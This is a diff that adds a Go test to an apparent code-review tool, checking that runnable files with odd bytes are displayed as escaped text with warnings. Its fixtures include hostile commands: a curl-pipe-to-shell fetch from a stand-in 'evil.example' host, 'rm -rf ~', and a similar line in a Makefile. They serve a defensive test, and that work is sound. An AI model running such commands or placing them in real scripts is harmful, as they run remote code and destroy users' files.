@@ -85,6 +85,58 @@ func TestReviewEscapesNamesAndContent(t *testing.T) {
 	}
 }
 
+// TestReviewShowsRunnableFilesAsText: a file that can run is shown as
+// text, its odd bytes escaped and a warning given, even when one byte
+// makes it look binary; a program is called one, with its size and hash.
+func TestReviewShowsRunnableFilesAsText(t *testing.T) {
+	elf := "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56) + "payload"
+	tests := []struct {
+		name    string
+		upper   map[string]string
+		unified []string
+		summary []string
+		not     []string // in neither
+	}{
+		{"script by extension with an invalid byte", map[string]string{"install.sh": "curl https://evil.example/x | sh\n# \xff\n"},
+			[]string{"+curl https://evil.example/x | sh\n", `+# \xff`, "# warning: install.sh is not valid text but can run"},
+			[]string{"install.sh", "+2", "not valid text"}, []string{"Binary files"}},
+		{"executable with a shebang and a NUL", map[string]string{"tool#755": "#!/bin/sh\nrm -rf ~\n\x00\n"},
+			[]string{"+rm -rf ~\n", `+\x00`, "# warning: tool is not valid text but can run"},
+			[]string{"tool", "+3"}, []string{"Binary files"}},
+		{"Makefile with an invalid byte", map[string]string{"Makefile": "all:\n\tcurl x | sh \xfe\n"},
+			[]string{"+\tcurl x | sh \\xfe\n"}, []string{"Makefile", "+2"}, []string{"Binary files"}},
+		{"executable binary", map[string]string{"bin/tool#755": elf},
+			[]string{"# warning: bin/tool is an executable binary: 71 bytes, sha256 "}, []string{"executable binary, 0 -> 71 bytes"}, nil},
+		// Positive control: data that cannot run stays a binary file.
+		{"ordinary binary", map[string]string{"img.png": "\x89PNG\r\n\x1a\n\x00\x00"},
+			[]string{"Binary files /dev/null and b/img.png differ"}, []string{"binary, 0 -> 10 bytes"}, []string{"warning"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, c := newSet(t, map[string]string{"keep": "k\n"})
+			tree(t, c.UpperDir(), tt.upper)
+			uni, sum := render(t, c, Unified), render(t, c, Summary)
+			terminalSafe(t, "unified", uni)
+			terminalSafe(t, "summary", sum)
+			for _, w := range tt.unified {
+				if !strings.Contains(uni, w) {
+					t.Errorf("unified diff lacks %q:\n%s", w, uni)
+				}
+			}
+			for _, w := range tt.summary {
+				if !strings.Contains(sum, w) {
+					t.Errorf("summary lacks %q:\n%s", w, sum)
+				}
+			}
+			for _, w := range tt.not {
+				if strings.Contains(uni, w) || strings.Contains(sum, w) {
+					t.Errorf("output has %q:\n%s\n%s", w, uni, sum)
+				}
+			}
+		})
+	}
+}
+
 // TestPatchWithOddBytesAppliesWithGit: names with control characters
 // and bytes outside UTF-8, and lines with a carriage return or an escape
 // in them, survive `git apply` exactly, and the patch itself carries no
